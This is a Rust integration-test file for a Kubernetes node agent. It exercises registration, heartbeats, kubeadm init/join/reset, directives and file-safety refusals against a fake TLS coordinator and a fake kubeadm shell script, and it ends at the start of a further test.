//! The agent binary against an in-process fake coordinator and a fake
//! kubeadm: registration, heartbeats, bootstrap, directives, reset, restart
//! and refusals. The fake coordinator speaks the real wire types over mutual
//! TLS; the fake kubeadm records its command lines and writes the files real
//! kubeadm writes.

use std::collections::VecDeque;
use std::net::SocketAddr;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use drover_common::api::{MachineFileContent, MachineRole, Problem};
use drover_common::bundle::{self, BundleFile, ConfigBundle};
use drover_common::pin::CaPin;
use drover_common::pki::{CertificateAuthority, LeafSpec, LeafUsage};
use drover_common::wire::{
    coordinators_digest, AgentPhase, AssignmentNotice, BootstrapDocument, CommandFailure,
    ConfigNotReady, Directive, DirectiveAction, DirectiveResult, HeartbeatRequest,
    HeartbeatResponse, RegisterRequest, RegisterResponse, RenewRequest, RenewResponse,
};
use http_body_util::{BodyExt, Full};
use hyper::body::{Bytes, Incoming};
use hyper::{Request, Response, StatusCode};
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, PrivateKeyDer};
use tokio::sync::mpsc;

const TICKET: &str = "ticket-for-test";
const WAIT: Duration = Duration::from_secs(30);

/// What the fake coordinator knows and is told to answer.
struct FakeState {
    ca: CertificateAuthority,
    registrations: u32,
    renewals: u32,
    machine_uid: String,
    /// Validity of issued client certificates.
    client_validity: time::Duration,
    assignment: Option<AssignmentNotice>,
    directives: Vec<Directive>,
    /// How many config requests are answered 409 before the bundle.
    not_ready: u32,
    config_requests: u32,
    /// Files added to every bundle, as a forged bundle would.
    extra_files: Vec<BundleFile>,
    /// The mode the kubeadm config is sent with.
    config_mode: u32,
    /// The cluster's files and commands the bundle carries.
    machine_files: Vec<MachineFileContent>,
    pre_commands: Vec<String>,
    post_commands: Vec<String>,
    /// The names of the cluster's addons the bundle carries.
    addons: Vec<String>,
    /// The coordinator URLs heartbeat answers name (to an agent whose
    /// digest differs, as the coordinator does).
    coordinators: Option<Vec<String>>,
    /// The status machine API requests are refused with (421: a follower,
    /// 503: cannot serve now), if any.
    refuse_with: Option<StatusCode>,
}

struct Fake {
    addr: SocketAddr,
    state: Arc<Mutex<FakeState>>,
    heartbeats: mpsc::UnboundedReceiver<HeartbeatRequest>,
}

fn json_response<T: serde::Serialize>(status: StatusCode, body: &T) -> Response<Full<Bytes>> {
    Response::builder()
        .status(status)
        .header("content-type", "application/json")
        .body(Full::new(Bytes::from(serde_json::to_vec(body).unwrap())))
        .unwrap()
}

fn problem(status: StatusCode, title: &str, detail: &str) -> Response<Full<Bytes>> {
    let p = Problem {
        type_: "about:blank".into(),
        title: title.into(),
        status: status.as_u16(),
        detail: detail.into(),
        errors: vec![],
    };
    let mut r = json_response(status, &p);
    r.headers_mut()
        .insert("content-type", "application/problem+json".parse().unwrap());
    r
}

fn client_spec(uid: &str, validity: time::Duration) -> LeafSpec {
    LeafSpec {
        common_name: uid.into(),
        organizations: vec!["drover:machines".into()],
        dns_names: vec![],
        ip_addresses: vec![],
        usage: LeafUsage::Client,
        validity,
    }
}

async fn handle(
    state: Arc<Mutex<FakeState>>,
    heartbeats: mpsc::UnboundedSender<HeartbeatRequest>,
    client_cn: Option<String>,
    req: Request<Incoming>,
) -> Result<Response<Full<Bytes>>, hyper::Error> {
    let method = req.method().clone();
    let path = req.uri().path().to_owned();
    let body = req.into_body().collect().await?.to_bytes();
    let mut s = state.lock().unwrap();
    if path != "/v1/machine/register" && client_cn.as_deref() != Some(s.machine_uid.as_str()) {
        return Ok(problem(
            StatusCode::UNAUTHORIZED,
            "Unauthorized",
            "client certificate required",
        ));
    }
    if let Some(status) = s.refuse_with {
        return Ok(problem(status, "Not the leader", "refused by the test"));
    }
    let response = match (method.as_str(), path.as_str()) {
        ("POST", "/v1/machine/register") => {
            let r: RegisterRequest = serde_json::from_slice(&body).unwrap();
            if r.ticket != TICKET {
                return Ok(problem(
                    StatusCode::FORBIDDEN,
                    "Ticket refused",
                    "the ticket signature does not verify",
                ));
            }
            assert_eq!(r.facts.hostname, "test-host");
            assert_eq!(r.facts.addresses, ["127.0.0.1"]);
            assert_eq!(r.facts.api_server_port, 16443);
            s.registrations += 1;
            let cert =
                s.ca.sign_csr(&r.csr_pem, &client_spec(&s.machine_uid, s.client_validity))
                    .unwrap();
            json_response(
                StatusCode::CREATED,
                &RegisterResponse {
                    machine_name: "m-test".into(),
                    machine_uid: s.machine_uid.clone(),
                    certificate_pem: cert.cert_pem,
                    not_after: cert.not_after,
                    coordinator_ca_pem: s.ca.cert_pem.clone(),
                    heartbeat_interval_seconds: 1,
                },
            )
        }
        ("POST", "/v1/machine/heartbeat") => {
            let hb: HeartbeatRequest = serde_json::from_slice(&body).unwrap();
            for result in &hb.directive_results {
                s.directives.retain(|d| d.id != result.id);
                if result.ok && result.id.starts_with("reset") {
                    s.assignment = None;
                }
            }
            let coordinators = s.coordinators.clone().filter(|list| {
                hb.coordinators_digest
                    .as_ref()
                    .is_some_and(|d| *d != coordinators_digest(list))
            });
            let _ = heartbeats.send(hb);
            json_response(
                StatusCode::OK,
                &HeartbeatResponse {
                    heartbeat_interval_seconds: 1,
                    assignment: s.assignment.clone(),
                    directives: s.directives.clone(),
                    datagram: None,
                    coordinators,
                },
            )
        }
        ("GET", "/v1/machine/config") => {
            s.config_requests += 1;
            let Some(a) = s.assignment.clone() else {
                return Ok(problem(StatusCode::NOT_FOUND, "Not assigned", ""));
            };
            if s.not_ready > 0 {
                s.not_ready -= 1;
                return Ok(json_response(
                    StatusCode::CONFLICT,
                    &ConfigNotReady {
                        reason: "waiting for the init machine".into(),
                        retry_after_seconds: 1,
                    },
                ));
            }
            let mut files = vec![BundleFile {
                path: "/etc/drover/kubeadm.yaml".into(),
                mode: s.config_mode,
                content: format!("kind: for-{}\n", a.role),
            }];
            if a.role.is_control_plane() {
                files.push(BundleFile {
                    path: "/etc/kubernetes/pki/ca.crt".into(),
                    mode: 0o644,
                    content: s.ca.cert_pem.clone(),
                });
            }
            files.extend(s.extra_files.iter().cloned());
            let b = ConfigBundle {
                machine_uid: s.machine_uid.clone(),
                cluster: a.cluster,
                role: a.role,
                generation: a.generation,
                kubernetes_version: "v1.31.2".into(),
                files,
                kubeadm_config_path: "/etc/drover/kubeadm.yaml".into(),
                machine_files: s.machine_files.clone(),
                pre_kubeadm_commands: s.pre_commands.clone(),
                post_kubeadm_commands: s.post_commands.clone(),
                image_cni: false,
                addons: s.addons.clone(),
                restore: None,
                issued_at: drover_common::now(),
            };
            json_response(StatusCode::OK, &bundle::sign(&b, &s.ca.key_pem).unwrap())
        }
        ("POST", "/v1/machine/certificate") => {
            let r: RenewRequest = serde_json::from_slice(&body).unwrap();
            s.renewals += 1;
            let cert =
                s.ca.sign_csr(
                    &r.csr_pem,
                    &client_spec(&s.machine_uid, time::Duration::hours(1)),
                )
                .unwrap();
            json_response(
                StatusCode::OK,
                &RenewResponse {
                    certificate_pem: cert.cert_pem,
                    not_after: cert.not_after,
                },
            )
        }
        _ => problem(StatusCode::NOT_FOUND, "Not found", &path),
    };
    Ok(response)
}

async fn start_fake(ca: CertificateAuthority) -> Fake {
    let leaf = ca
        .issue(&LeafSpec::loopback("coordinator", LeafUsage::Server))
        .unwrap();
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut roots = rustls::RootCertStore::empty();
    roots.add(CertificateDer::from(ca.cert_der())).unwrap();
    let verifier = rustls::server::WebPkiClientVerifier::builder_with_provider(
        Arc::new(roots),
        provider.clone(),
    )
    .allow_unauthenticated()
    .build()
    .unwrap();
    // The chain ends with the CA, as the real coordinator sends it.
    let chain = vec![
        CertificateDer::from_pem_slice(leaf.cert_pem.as_bytes()).unwrap(),
        CertificateDer::from(ca.cert_der()),
    ];
    let key = PrivateKeyDer::from_pem_slice(leaf.key_pem.unwrap().as_bytes()).unwrap();
    let config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_client_cert_verifier(verifier)
        .with_single_cert(chain, key)
        .unwrap();
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let state = Arc::new(Mutex::new(FakeState {
        ca,
        registrations: 0,
        renewals: 0,
        machine_uid: "uid-test-1".into(),
        client_validity: time::Duration::hours(1),
        assignment: None,
        directives: vec![],
        not_ready: 1,
        config_requests: 0,
        extra_files: vec![],
        config_mode: 0o600,
        machine_files: vec![],
        pre_commands: vec![],
        post_commands: vec![],
        addons: vec![],
        coordinators: None,
        refuse_with: None,
    }));
    let (tx, rx) = mpsc::unbounded_channel();
    let shared = state.clone();
    tokio::spawn(async move {
        loop {
            let Ok((tcp, _)) = listener.accept().await else {
                return;
            };
            let acceptor = acceptor.clone();
            let state = shared.clone();
            let tx = tx.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else {
                    return;
                };
                let cn = tls
                    .get_ref()
                    .1
                    .peer_certificates()
                    .and_then(|c| c.first())
                    .map(|c| drover_common::pki::cert_info(c).unwrap().common_name);
                let service = hyper::service::service_fn(move |req| {
                    handle(state.clone(), tx.clone(), cn.clone(), req)
                });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(hyper_util::rt::TokioIo::new(tls), service)
                    .await;
            });
        }
    });
    Fake {
        addr,
        state,
        heartbeats: rx,
    }
}

impl Fake {
    /// Waits for a heartbeat matching `pred`, returning it.
    async fn heartbeat_where(
        &mut self,
        what: &str,
        pred: impl Fn(&HeartbeatRequest) -> bool,
    ) -> HeartbeatRequest {
        let mut seen = VecDeque::new();
        let found = tokio::time::timeout(WAIT, async {
            while let Some(hb) = self.heartbeats.recv().await {
                if pred(&hb) {
                    return Some(hb);
                }
                seen.push_back(format!(
                    "{:?} gen {} {:?}",
                    hb.phase, hb.applied_generation, hb.bootstrap
                ));
                if seen.len() > 5 {
                    seen.pop_front();
                }
            }
            None
        })
        .await;
        match found {
            Ok(Some(hb)) => hb,
            _ => panic!("no heartbeat {what}; last seen: {seen:#?}"),
        }
    }

    /// Waits for a heartbeat of a Running agent at `generation`.
    async fn running_at(&mut self, generation: u64) -> HeartbeatRequest {
        self.heartbeat_where(&format!("Running gen {generation}"), |h| {
            h.phase == AgentPhase::Running && h.applied_generation == generation
        })
        .await
    }

    /// Waits for a heartbeat in `phase`.
    async fn in_phase(&mut self, phase: AgentPhase) -> HeartbeatRequest {
        self.heartbeat_where(&format!("{phase:?}"), |h| h.phase == phase)
            .await
    }

    /// Waits for the Failed heartbeat of a bootstrap that failed at
    /// `step`, returning the failure it reports.
    async fn failed_at(&mut self, step: &str) -> CommandFailure {
        let report = self.in_phase(AgentPhase::Failed).await.bootstrap.unwrap();
        assert_eq!(report.step, step, "{report:?}");
        report.failure.unwrap()
    }

    /// Sends directive `id` with the next heartbeat answers and waits for
    /// the heartbeat that reports its result, returning that heartbeat.
    async fn directive(&mut self, id: &str, action: DirectiveAction) -> HeartbeatRequest {
        self.set(|s| {
            s.directives.push(Directive {
                id: id.into(),
                action,
            })
        });
        self.heartbeat_where(&format!("{id} result"), |h| {
            h.directive_results.iter().any(|r| r.id == id)
        })
        .await
    }

    fn set(&self, f: impl FnOnce(&mut FakeState)) {
        f(&mut self.state.lock().unwrap());
    }

    fn get<T>(&self, f: impl FnOnce(&FakeState) -> T) -> T {
        f(&self.state.lock().unwrap())
    }
}

/// A machine: a root directory, a fake kubeadm and a bootstrap document.
struct Machine {
    dir: tempfile::TempDir,
    root: PathBuf,
    kubeadm: PathBuf,
    bootstrap: PathBuf,
}

const FAKE_KUBEADM: &str = r#"#!/bin/sh
# Records its command line and writes the files real kubeadm writes.
# `version` (what the agent reports with its heartbeats) is a query, not
# a step: answered, not recorded.
if [ "$1" = version ]; then echo v1.31.2; exit 0; fi
echo "$*" >> "$FAKE_KUBEADM_LOG"
root=/
prev=
for a in "$@"; do
  if [ "$prev" = "--rootfs" ]; then root="$a"; fi
  prev="$a"
done
if [ "$1" = "$FAKE_KUBEADM_HANG_ON" ]; then echo $$ > "$FAKE_KUBEADM_PID"; exec sleep 600; fi
# What it was given, for the tests: the agent removes the config (it holds
# a join token) once kubeadm succeeded.
if [ -f "$root/etc/drover/kubeadm.yaml" ]; then
  cp -p "$root/etc/drover/kubeadm.yaml" "$FAKE_KUBEADM_LOG.config"
fi
case "$1" in
  init)
    test -f "$root/etc/drover/kubeadm.yaml" || { echo "config missing" >&2; exit 1; }
    mkdir -p "$root/etc/kubernetes"
    touch "$root/etc/kubernetes/admin.conf" "$root/etc/kubernetes/kubelet.conf"
    echo "Your Kubernetes control-plane has initialized successfully!"
    ;;
  join)
    if [ -n "$FAKE_KUBEADM_FAIL_JOIN" ]; then
      echo "[preflight] Running pre-flight checks"
      echo "error execution phase preflight: couldn't validate the identity of the API Server" >&2
      exit 1
    fi
    mkdir -p "$root/etc/kubernetes"
    touch "$root/etc/kubernetes/kubelet.conf"
    ;;
  reset)
    rm -rf "$root/etc/kubernetes"
    ;;
  token)
    echo "$3"
    ;;
esac
exit 0
"#;

impl Machine {
    fn new(coordinator: SocketAddr, pin: &CaPin, ticket: &str) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path().join("root");
        std::fs::create_dir_all(&root).unwrap();
        let kubeadm = dir.path().join("kubeadm");
        std::fs::write(&kubeadm, FAKE_KUBEADM).unwrap();
        std::fs::set_permissions(&kubeadm, std::fs::Permissions::from_mode(0o755)).unwrap();
        let doc = BootstrapDocument {
            api_version: drover_common::API_VERSION.into(),
            kind: drover_common::wire::BOOTSTRAP_KIND.into(),
            // The first replica is down: the agent fails over.
            coordinators: vec![
                "https://127.0.0.1:1".into(),
                format!("https://127.0.0.1:{}", coordinator.port()),
            ],
            ca_pin: pin.clone(),
            ticket: ticket.into(),
        };
        let bootstrap = dir.path().join("bootstrap.yaml");
        std::fs::write(&bootstrap, doc.to_yaml()).unwrap();
        let root = root.canonicalize().unwrap();
        Self {
            dir,
            root,
            kubeadm,
            bootstrap,
        }
    }

    fn log(&self) -> PathBuf {
        self.dir.path().join("kubeadm.log")
    }

    /// The kubeadm config the last kubeadm call was given (the fake copies
    /// it, with its mode, before acting).
    fn kubeadm_config_given(&self) -> PathBuf {
        self.dir.path().join("kubeadm.log.config")
    }

    fn kubeadm_calls(&self) -> Vec<String> {
        std::fs::read_to_string(self.log())
            .unwrap_or_default()
            .lines()
            .map(str::to_owned)
            .collect()
    }

    fn stderr_path(&self, run: u32) -> PathBuf {
        self.dir.path().join(format!("agent-{run}.log"))
    }

    fn spawn(&self, run: u32, with_bootstrap: bool, env: &[(&str, &str)]) -> tokio::process::Child {
        self.spawn_with_args(run, with_bootstrap, env, &[])
    }

    fn spawn_with_args(
        &self,
        run: u32,
        with_bootstrap: bool,
        env: &[(&str, &str)],
        args: &[&str],
    ) -> tokio::process::Child {
        let mut cmd = tokio::process::Command::new(env!("CARGO_BIN_EXE_drover-agent"));
        cmd.arg("--root")
            .arg(&self.root)
            .arg("--kubeadm")
            .arg(&self.kubeadm)
            .args(["--hostname", "test-host", "--api-server-port", "16443"])
            .args(["--kubelet-healthz-url", "http://127.0.0.1:1/healthz"])
            // Never the real machine's seed: the test's own.
            .arg("--nocloud-dir")
            .arg(self.nocloud_dir())
            .env("FAKE_KUBEADM_LOG", self.log())
            .env("RUST_LOG", "info")
            // Tests never reach for the real link-local metadata service.
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(self.stderr_path(run)).unwrap())
            .kill_on_drop(true);
        if with_bootstrap {
            cmd.arg("--bootstrap").arg(&self.bootstrap);
        }
        cmd.args(args);
        for (k, v) in env {
            cmd.env(k, v);
        }
        cmd.spawn().unwrap()
    }

    /// The NoCloud seed directory the agent is pointed at (empty unless a
    /// test writes to it).
    fn nocloud_dir(&self) -> PathBuf {
        self.dir.path().join("nocloud")
    }

    fn stderr(&self, run: u32) -> String {
        std::fs::read_to_string(self.stderr_path(run)).unwrap_or_default()
    }

    /// Asserts that kubeadm never ran and no kubeadm config was written.
    fn assert_kubeadm_never_ran(&self) {
        assert!(
            !self.root.join("etc/drover/kubeadm.yaml").exists(),
            "nothing of the bundle is written"
        );
        assert!(
            self.kubeadm_calls().is_empty(),
            "{:?}",
            self.kubeadm_calls()
        );
    }

    /// Asserts that the log of run `run` contains `text`.
    fn assert_logged(&self, run: u32, text: &str) {
        let log = self.stderr(run);
        assert!(log.contains(text), "no {text:?} in {log}");
    }

    /// The agent's saved state.
    fn state(&self) -> serde_json::Value {
        let text =
            std::fs::read_to_string(self.root.join("var/lib/drover-agent/state.json")).unwrap();
        serde_json::from_str(&text).unwrap()
    }
}

async fn exit_code(child: &mut tokio::process::Child) -> i32 {
    tokio::time::timeout(WAIT, child.wait())
        .await
        .expect("agent exits")
        .unwrap()
        .code()
        .expect("exit code")
}

fn terminate(child: &tokio::process::Child) {
    let pid = nix::unistd::Pid::from_raw(child.id().unwrap() as i32);
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGTERM).unwrap();
}

/// Stops an agent with SIGTERM and asserts that it exits 0.
async fn stop_cleanly(agent: &mut tokio::process::Child) {
    terminate(agent);
    assert_eq!(exit_code(agent).await, 0);
}

/// An assignment to `cluster` as `role` at `generation`.
fn assigned(cluster: &str, role: MachineRole, generation: u64) -> Option<AssignmentNotice> {
    Some(AssignmentNotice {
        cluster: cluster.into(),
        role,
        generation,
    })
}

/// The result of directive `id` the heartbeat reports.
fn result_of<'a>(hb: &'a HeartbeatRequest, id: &str) -> &'a DirectiveResult {
    hb.directive_results.iter().find(|r| r.id == id).unwrap()
}

/// A new coordinator CA and its pin.
fn new_ca() -> (CertificateAuthority, CaPin) {
    let ca = CertificateAuthority::generate("fake-coordinator-ca").unwrap();
    let pin = CaPin::from_cert_pem(&ca.cert_pem).unwrap();
    (ca, pin)
}

/// A fake coordinator with a CA of its own, and that CA's pin.
async fn start_fake_with_new_ca() -> (Fake, CaPin) {
    let (ca, pin) = new_ca();
    (start_fake(ca).await, pin)
}

/// A fake coordinator that assigns its machine to cluster `demo` as
/// `role` at `generation` and serves the bundle at once, told more by
/// `more`; and a machine for it.
async fn assigned_machine(
    role: MachineRole,
    generation: u64,
    more: impl FnOnce(&mut FakeState),
) -> (Fake, Machine) {
    let (fake, pin) = start_fake_with_new_ca().await;
    fake.set(|s| {
        s.not_ready = 0;
        s.assignment = assigned("demo", role, generation);
        more(s);
    });
    let m = Machine::new(fake.addr, &pin, TICKET);
    (fake, m)
}

/// Waits until `done` holds, failing with `what` after [`WAIT`].
async fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
    tokio::time::timeout(WAIT, async {
        while !done() {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await
    .unwrap_or_else(|_| panic!("{what}"));
}

fn mode(p: &Path) -> u32 {
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

#[tokio::test]
async fn full_lifecycle_init_token_reset_rejoin_restart() {
    let (mut fake, pin) = start_fake_with_new_ca().await;
    let m = Machine::new(fake.addr, &pin, TICKET);
    let mut agent = m.spawn(1, true, &[]);

    let hb = fake.in_phase(AgentPhase::Waiting).await;
    assert_eq!(hb.applied_generation, 0);
    assert!(hb.bootstrap.is_none());
    // The machine's kubeadm version goes with the first heartbeat.
    assert_eq!(hb.kubeadm_version.as_deref(), Some("v1.31.2"));
    assert_eq!(fake.get(|s| s.registrations), 1);
    let state_file = m.root.join("var/lib/drover-agent/state.json");
    assert_eq!(mode(&state_file), 0o600);
    assert_eq!(mode(state_file.parent().unwrap()), 0o700);

    // Assigned as the init machine: one 409, then the bundle, then kubeadm init.
    fake.set(|s| s.assignment = assigned("demo", MachineRole::Init, 1));
    let hb = fake.running_at(1).await;
    assert_eq!(hb.bootstrap.unwrap().step, "kubeadm-init");
    assert_eq!(
        hb.kubeadm_version, None,
        "an unchanged version is sent once"
    );
    // The API server is probed on a control-plane machine; nothing listens.
    assert!(hb.health.api_server.is_some());
    assert!(fake.get(|s| s.config_requests) >= 2);
    let root = m.root.display().to_string();
    assert_eq!(
        m.kubeadm_calls(),
        [format!(
            "init --config /etc/drover/kubeadm.yaml --rootfs {root}"
        )]
    );
    let given = m.kubeadm_config_given();
    assert_eq!(
        std::fs::read_to_string(&given).unwrap(),
        "kind: for-control-plane(init)\n"
    );
    assert_eq!(mode(&given), 0o600);
    assert!(
        !m.root.join("etc/drover/kubeadm.yaml").exists(),
        "the config holding the join token is removed once kubeadm succeeded"
    );
    m.assert_logged(1, "waiting for the init machine");

    // A bootstrap token directive runs once, and its result is reported.
    let hb = fake
        .directive(
            "token-1",
            DirectiveAction::CreateBootstrapToken {
                token: "abcdef.0123456789abcdef".parse().unwrap(),
                ttl_seconds: 3600,
            },
        )
        .await;
    let result = result_of(&hb, "token-1");
    assert!(result.ok, "{result:?}");
    assert!(!result.message.contains("0123456789abcdef"), "{result:?}");
    assert_eq!(
        m.kubeadm_calls()[1],
        format!("token create abcdef.0123456789abcdef --ttl 3600s --kubeconfig {root}/etc/kubernetes/admin.conf")
    );

    // Reset: back to Waiting with generation 0, files gone.
    let hb = fake
        .directive(
            "reset-1",
            DirectiveAction::Reset {
                reason: "cluster deleted".into(),
            },
        )
        .await;
    assert_eq!(hb.phase, AgentPhase::Waiting);
    assert_eq!(hb.applied_generation, 0);
    assert!(result_of(&hb, "reset-1").ok, "{hb:?}");
    assert_eq!(
        m.kubeadm_calls()[2],
        format!(
            "reset -f --cri-socket {} --rootfs {root}",
            drover_common::kubeadm::CRI_SOCKET
        )
    );
    assert!(!m.root.join("etc/drover/kubeadm.yaml").exists());
    assert!(!m.root.join("etc/kubernetes/pki/ca.crt").exists());

    // Assigned again, as a worker with a newer generation: kubeadm join.
    fake.set(|s| s.assignment = assigned("other", MachineRole::Worker, 2));
    let hb = fake.running_at(2).await;
    assert_eq!(hb.bootstrap.unwrap().step, "kubeadm-join");
    assert!(hb.health.api_server.is_none());
    assert_eq!(
        m.kubeadm_calls()[3],
        format!("join --config /etc/drover/kubeadm.yaml --rootfs {root}")
    );
    // A worker never gets the cluster CA.
    assert!(!m.root.join("etc/kubernetes/pki/ca.crt").exists());

    stop_cleanly(&mut agent).await;

    // Restarted without --bootstrap: no second registration, still running.
    let mut agent = m.spawn(2, false, &[]);
    let hb = fake.in_phase(AgentPhase::Running).await;
    assert_eq!(hb.applied_generation, 2);
    assert_eq!(fake.get(|s| s.registrations), 1);
    assert_eq!(m.kubeadm_calls().len(), 4, "{:?}", m.kubeadm_calls());
    stop_cleanly(&mut agent).await;
}

/// Starts an agent whose kubeadm hangs in `verb`, stops the agent while
/// kubeadm runs, then kills kubeadm as a reboot would.
async fn interrupt_kubeadm(fake: &mut Fake, m: &Machine, verb: &str) {
    let pid_file = m.dir.path().join("kubeadm.pid");
    let mut agent = m.spawn(
        1,
        true,
        &[
            ("FAKE_KUBEADM_HANG_ON", verb),
            ("FAKE_KUBEADM_PID", pid_file.to_str().unwrap()),
        ],
    );
    let step = format!("kubeadm-{verb}");
    fake.heartbeat_where(&step, |h| {
        h.phase == AgentPhase::Bootstrapping && h.bootstrap.as_ref().is_some_and(|b| b.step == step)
    })
    .await;
    wait_until("kubeadm started", || pid_file.exists()).await;
    stop_cleanly(&mut agent).await;
    let kubeadm_pid: i32 = std::fs::read_to_string(&pid_file)
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let _ = nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(kubeadm_pid),
        nix::sys::signal::Signal::SIGKILL,
    );
}

#[tokio::test]
async fn interrupted_join_is_reset_and_joined_again() {
    let (mut fake, m) = assigned_machine(MachineRole::ControlPlane, 2, |_| {}).await;
    interrupt_kubeadm(&mut fake, &m, "join").await;

    let mut agent = m.spawn_with_args(2, false, &[], &["--log-format", "json"]);
    let hb = fake.in_phase(AgentPhase::Running).await;
    assert_eq!(hb.applied_generation, 2);
    let root = m.root.display().to_string();
    assert_eq!(
        m.kubeadm_calls(),
        [
            format!("join --config /etc/drover/kubeadm.yaml --rootfs {root}"),
            format!(
                "reset -f --cri-socket {} --rootfs {root}",
                drover_common::kubeadm::CRI_SOCKET
            ),
            format!("join --config /etc/drover/kubeadm.yaml --rootfs {root}"),
        ]
    );
    stop_cleanly(&mut agent).await;
    // Every line of the JSON log is a JSON object with a message.
    let log = m.stderr(2);
    assert!(log.lines().count() > 2, "{log}");
    for line in log.lines() {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        assert!(v["message"].is_string(), "{line}");
    }
}

#[tokio::test]
async fn interrupted_init_is_never_rerun() {
    let (mut fake, m) = assigned_machine(MachineRole::Init, 1, |_| {}).await;
    interrupt_kubeadm(&mut fake, &m, "init").await;

    let mut agent = m.spawn(2, false, &[]);
    let failure = fake.failed_at("kubeadm-init").await;
    assert!(
        failure.output_tail[0].contains("interrupted"),
        "{failure:?}"
    );
    assert!(failure.output_tail[0].contains("reset"), "{failure:?}");
    assert_eq!(m.kubeadm_calls().len(), 1, "{:?}", m.kubeadm_calls());
    stop_cleanly(&mut agent).await;
}

#[tokio::test]
async fn failed_join_reports_command_and_output_tail() {
    let (mut fake, m) = assigned_machine(MachineRole::Worker, 4, |_| {}).await;
    let mut agent = m.spawn(1, true, &[("FAKE_KUBEADM_FAIL_JOIN", "1")]);
    let hb = fake.in_phase(AgentPhase::Failed).await;
    assert_eq!(hb.applied_generation, 4);
    let report = hb.bootstrap.unwrap();
    assert_eq!(report.step, "kubeadm-join");
    let failure = report.failure.unwrap();
    assert_eq!(failure.exit_code, Some(1));
    assert_eq!(
        failure.command,
        format!(
            "{} join --config /etc/drover/kubeadm.yaml --rootfs {}",
            m.kubeadm.display(),
            m.root.display()
        )
    );
    assert!(
        failure
            .output_tail
            .iter()
            .any(|l| l.contains("couldn't validate the identity")),
        "{failure:?}"
    );
    // Not retried automatically.
    fake.in_phase(AgentPhase::Failed).await;
    assert_eq!(m.kubeadm_calls().len(), 1);
    stop_cleanly(&mut agent).await;
}

/// The cluster's machine files, each `(path, mode, content)` owned by root.
fn machine_files(files: &[(&str, u32, &str)]) -> Vec<MachineFileContent> {
    files
        .iter()
        .map(|(path, mode, content)| MachineFileContent {
            path: (*path).into(),
            mode: *mode,
            owner: "root:root".into(),
            content: (*content).into(),
        })
        .collect()
}

#[tokio::test]
async fn machine_files_then_pre_commands_then_kubeadm_then_post_commands() {
    let (mut fake, m) = assigned_machine(MachineRole::Worker, 2, |s| {
        s.machine_files = machine_files(&[
            ("/etc/cni/net.d/10-bridge.conflist", 0o644, "{\"cniVersion\": \"1.0.0\"}\n"),
            ("/etc/demo/secret.conf", 0o600, "s3cret\n"),
        ]);
        // Each command proves what exists when it runs, and leaves a line.
        s.pre_commands = vec![
            r#"test -f "$DROVER_ROOT/etc/cni/net.d/10-bridge.conflist" && echo pre-1 >> "$DROVER_ROOT/order""#.into(),
            r#"test ! -e "$DROVER_ROOT/etc/kubernetes/kubelet.conf" && echo pre-2 >> "$DROVER_ROOT/order""#.into(),
        ];
        s.post_commands =
            vec![r#"test -f "$DROVER_ROOT/etc/kubernetes/kubelet.conf" && echo post >> "$DROVER_ROOT/order""#.into()];
    })
    .await;
    let mut agent = m.spawn(1, true, &[]);
    fake.running_at(2).await;
    assert_eq!(
        std::fs::read_to_string(m.root.join("order")).unwrap(),
        "pre-1\npre-2\npost\n"
    );
    assert_eq!(m.kubeadm_calls().len(), 1, "{:?}", m.kubeadm_calls());
    let cni = m.root.join("etc/cni/net.d/10-bridge.conflist");
    assert_eq!(
        std::fs::read_to_string(&cni).unwrap(),
        "{\"cniVersion\": \"1.0.0\"}\n"
    );
    assert_eq!(mode(&cni), 0o644);
    assert_eq!(mode(&m.root.join("etc/demo/secret.conf")), 0o600);

    // Going back to the pool removes the files the cluster put there.
    fake.directive(
        "reset-1",
        DirectiveAction::Reset {
            reason: "released".into(),
        },
    )
    .await;
    assert!(!cni.exists() && !m.root.join("etc/demo/secret.conf").exists());
    stop_cleanly(&mut agent).await;
}

#[tokio::test]
async fn a_failing_pre_kubeadm_command_fails_the_machine_before_kubeadm() {
    let (mut fake, m) = assigned_machine(MachineRole::Worker, 3, |s| {
        s.pre_commands = vec!["true".into(), "echo no registry mirror; exit 7".into()];
        s.post_commands = vec!["echo never".into()];
    })
    .await;
    let mut agent = m.spawn(1, true, &[]);
    let failure = fake.failed_at("pre-kubeadm-commands").await;
    assert_eq!(
        failure.command,
        "/bin/sh -c 'echo no registry mirror; exit 7'"
    );
    assert_eq!(failure.exit_code, Some(7));
    assert_eq!(failure.output_tail, ["no registry mirror"]);
    assert!(m.kubeadm_calls().is_empty(), "{:?}", m.kubeadm_calls());
    stop_cleanly(&mut agent).await;
}

#[tokio::test]
async fn a_machine_file_at_a_reserved_path_is_refused_and_nothing_written() {
    let (mut fake, m) = assigned_machine(MachineRole::Worker, 1, |s| {
        s.pre_commands = vec!["echo ran >> \"$DROVER_ROOT/ran\"".into()];
        s.machine_files = machine_files(&[
            ("/etc/fine.conf", 0o644, "x"),
            ("/var/lib/drover-agent/state.json", 0o644, "{}"),
        ]);
    })
    .await;
    let mut agent = m.spawn(1, true, &[]);
    let tail = fake.failed_at("write-files").await.output_tail.join("\n");
    assert!(
        tail.contains("/var/lib/drover-agent/state.json") && tail.contains("reserved"),
        "{tail}"
    );
    assert!(!m.root.join("etc/fine.conf").exists());
    assert!(!m.root.join("ran").exists());
    m.assert_kubeadm_never_ran();
    stop_cleanly(&mut agent).await;
}

#[tokio::test]
async fn a_forged_bundle_cannot_write_outside_the_kubeadm_files() {
